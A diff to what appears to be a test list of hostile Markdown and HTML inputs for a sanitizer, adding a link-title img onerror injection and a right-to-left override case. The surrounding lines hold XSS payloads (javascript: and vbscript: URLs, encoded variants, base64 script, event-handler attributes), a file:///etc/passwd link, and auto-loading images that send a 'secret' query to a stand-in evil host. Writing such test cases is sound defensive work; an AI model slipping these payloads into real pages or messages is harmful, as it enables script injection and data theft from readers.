@@ -41,6 +41,8 @@ WRITTEN = (
     "[x][r]\n\n[r]: javascript:alert(1)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
     "[x](javascript&#58;alert(1))", "[x](%6Aavascript:alert(1))", "[x](//evil.example/x)", "[x](\\\\evil.example\\x)", "[x](blob:x)",
     '[x](https://example.org "a\\" onmouseover=\\"alert(1)")', '[x](https://example.org/"onmouseover=alert(1)//)', "[x](file:///etc/passwd)",
+    '[x](https://example.org "t [K7] <img src=x onerror=alert(1)>")',
+    "[x](https://example.org 't\u202e[K7]' ) [K7](https://example.org/[K7])",
     f'<a href="{EVIL}" ping="{EVIL}/ping" target="_self">x</a>',
     # Images, and all else that loads by itself.
     f"![x]({EVIL}/?q=secret)", f"![x][r]\n\n[r]: {EVIL}/?q=secret", f"[![x]({EVIL}/1.png)](https://example.org)", "![x](//evil.example/1.png)",
